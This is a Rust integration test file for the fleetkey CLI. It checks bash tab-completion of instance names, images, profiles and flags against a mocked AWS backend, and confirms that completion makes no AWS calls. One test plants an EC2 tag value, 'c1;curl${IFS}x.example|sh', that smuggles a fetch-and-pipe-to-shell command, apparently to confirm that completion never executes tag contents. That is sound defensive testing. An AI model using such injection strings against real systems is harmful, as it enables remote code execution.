//! What shells complete, asked as they ask: a real bash with the script that `fleetkey completions` prints.

use std::path::PathBuf;
use std::time::{Duration, SystemTime};

use anyhow::{Context as _, Result};
use aws_sdk_ec2::types::Tag;
use fleetkey_tests::moto::Moto;
use fleetkey_tests::program;
use fleetkey_tests::proxy::Proxy;

use super::boxes::{launch, launch_box};
use super::fleetkey::Operator;

/// Completes the last of the words as bash does, in this shell.
const BASH: &str = r#"
set -eu
source <(fleetkey completions bash)
COMP_WORDS=(fleetkey "$@")
COMP_CWORD=$#
COMP_LINE="${COMP_WORDS[*]}"
COMP_POINT=${#COMP_LINE}
COMP_TYPE=9
shopt -u progcomp 2>/dev/null || true
_clap_complete_fleetkey fleetkey "${COMP_WORDS[COMP_CWORD]}" "${COMP_WORDS[COMP_CWORD-1]}"
printf '%s\n' "${COMPREPLY[@]-}"
"#;

/// What the words are completed to, sorted; the last one is at hand.
async fn complete(operator: &Operator, words: &[&str]) -> Result<Vec<String>> {
    let folder = program("fleetkey").parent().context("the program is in a folder")?.to_owned();
    let path = format!("{}:/usr/bin:/bin", folder.display());
    let run = operator.command(&[], &[("FLEETKEY_ZONE", "us-west-2a"), ("PATH", &path)]);
    let mut bash = tokio::process::Command::new("bash");
    let variables = run.as_std().get_envs().filter_map(|(name, value)| Some((name, value?)));
    bash.env_clear().envs(variables).args(["--norc", "-c", BASH, "bash"]).args(words).kill_on_drop(true);
    let output = bash.output().await?;
    let told = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success() && told.is_empty(), "{words:?}: {told}");
    // Where anything could be typed, flags are offered too.
    let wants_flags = words.last().is_some_and(|word| word.starts_with('-'));
    let offered = |line: &&str| !line.is_empty() && (wants_flags || !line.starts_with('-'));
    let mut found: Vec<String> = String::from_utf8(output.stdout)?.lines().filter(offered).map(str::to_owned).collect();
    found.sort();
    Ok(found)
}

/// The one file in which what was seen is kept.
fn kept(operator: &Operator) -> Result<PathBuf> {
    let mut entries = std::fs::read_dir(operator.path(".cache/fleetkey/boxes"))?;
    Ok(entries.next().context("something was kept")??.path())
}

#[tokio::test]
async fn names_that_list_has_shown_are_completed_without_a_call_to_aws() -> Result<()> {
    let mut operator = Operator::new("alice").await?;
    let moto = tokio::task::spawn_blocking(Moto::shared).await??;
    let proxy = Proxy::start(moto.address())?;
    operator.go_through(proxy.endpoint());
    let tags = [("Name", "prod_web"), ("generation", "0"), ("cluster_name", "c1"), ("cluster_ordinal", "0")];
    let web = launch(&operator.cloud, &tags).await?;
    let db = launch_box(&operator.cloud, "prod_db").await?;
    let hostile = Tag::builder().key("cluster_name").value("c1;curl${IFS}x.example|sh").build();
    operator.cloud.ec2().create_tags().resources(&db).tags(hostile).send().await?;
    assert_eq!(complete(&operator, &["ssh", "-n", "/prod/", "w"]).await?, Vec::<String>::new());
    operator.verb("/prod/", &["list"]).await?.ended(0);

    let calls = proxy.take_calls();
    assert!(!calls.is_empty());
    for (words, found) in [
        (&["ssh", "-n", "/prod/", "w"][..], &["web"][..]),
        (&["terminate", "--namespace", "/prod/", ""], &["db", "web"]),
        (&["--namespace=/prod/", "show", "web", "-I", "i-"], &[web.as_str()]),
        (&["stop", "-n", "/prod/", "db", "--instance-id", ""], &[db.as_str()]),
        (&["stop", "-n", "/prod/", "web", "-o", ""], &["0"]),
        (&["list", "-n", "/prod/", "-c", ""], &["c1"]),
        (&["rsync", "-n", "/prod/", "we"], &["web"]),
        (&["list-volumes", "-n", "/prod/", "w"], &["web"]),
        (&["refresh-ingress", "-n", "/prod/", "w"], &["web"]),
        (&["ssh-config", "-n", "/prod/", "w"], &["web"]),
        // What is typed of these says where to look, so it is not looked there.
        (&["list", "-n", "/p"], &["/prod/"]),
        (&["list", "--namespace", ""], &["/", "/prod/"]),
        (&["list", "-z", "us-w"], &["us-west-2a"]),
        // Another namespace is another list, of which nothing is known.
        (&["show", "-n", "/test/", "web", "-I", "i-"], &[]),
        (&["term"], &["terminate"]),
        (&["create", "generic-deb"], &["generic-debian-12-box"]),
        (&["list", "--output", ""], &["json", "table"]),
        (&["list", "--region", "us-w"], &["us-west-1", "us-west-2"]),
    ] {
        assert_eq!(complete(&operator, words).await?, found, "{words:?}");
    }
    assert!(proxy.take_calls().is_empty(), "completing asks AWS nothing");
    Ok(())
}

#[tokio::test]
async fn what_is_old_is_looked_at_again_by_another_process_and_is_there_at_the_next_key() -> Result<()> {
    let operator = Operator::new("alice").await?;
    launch_box(&operator.cloud, "prod_web").await?;
    operator.verb("/prod/", &["list"]).await?.ended(0);
    launch_box(&operator.cloud, "prod_db").await?;
    let path = kept(&operator)?;
    std::fs::File::options().write(true).open(&path)?.set_modified(SystemTime::now() - Duration::from_hours(1))?;
    assert_eq!(complete(&operator, &["ssh", "-n", "/prod/", ""]).await?, ["web"]);
    let deadline = tokio::time::Instant::now() + Duration::from_mins(1);
    while complete(&operator, &["ssh", "-n", "/prod/", ""]).await? != ["db", "web"] {
        assert!(tokio::time::Instant::now() < deadline, "nobody has looked again");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    Ok(())
}

#[tokio::test]
async fn images_profiles_and_options_are_completed_and_a_broken_configuration_is_borne() -> Result<()> {
    let operator = Operator::new("alice").await?;
    let id = launch_box(&operator.cloud, "web").await?;
    super::boxes::stop(&operator.cloud, &id).await?;
    let taken = operator.json("/", &["image", "web"]).await?;
    operator.verb("/", &["list"]).await?.ended(0);
    operator.verb("/", &["list-images", "web"]).await?.ended(0);
    let image = taken["id"].as_str().context("an image has an id")?;
    assert_eq!(complete(&operator, &["recreate", "-n", "/", "web", "-i", ""]).await?, ["0", image]);
    assert_eq!(complete(&operator, &["delete-image", "-n", "/", "w"]).await?, ["web"]);

    std::fs::create_dir_all(operator.path(".config/fleetkey/roles"))?;
    operator.file(".config/fleetkey/config.toml", "[profile.prod]\nnamespace = '/prod/'\n[profile.test]\n")?;
    let role = "extends: [generic-debian-12-box]\noptions:\n  size: {type: string, help: how large, default: small}\n";
    operator.file(".config/fleetkey/roles/mine.yaml", role)?;
    assert_eq!(complete(&operator, &["list", "--profile", ""]).await?, ["prod", "test"]);
    assert_eq!(complete(&operator, &["list", "--namespace", "/p"]).await?, ["/prod/"]);
    assert_eq!(complete(&operator, &["create", "mine", "-O", "si"]).await?, ["size="]);
    operator.file(".config/fleetkey/config.toml", "nonsense")?;
    assert_eq!(complete(&operator, &["list-i"]).await?, ["list-images"]);
    assert_eq!(complete(&operator, &["list", "--profile", ""]).await?, Vec::<String>::new());
    operator.run(&["completions", "zsh"]).await?.ended(0);
    let asked = operator.run_with(&["list"], &[("FLEETKEY_COMPLETE", "tcsh")]).await?.ended(2);
    assert!(
        asked.stderr.starts_with("error: FLEETKEY_COMPLETE is set: ") && asked.stdout.is_empty(),
        "{}",
        asked.stderr
    );
    let said = operator.run(&["completions", "tcsh"]).await?.ended(2);
    assert!(said.stderr.contains("[possible values: bash, zsh, fish]"), "{}", said.stderr);
    Ok(())
}
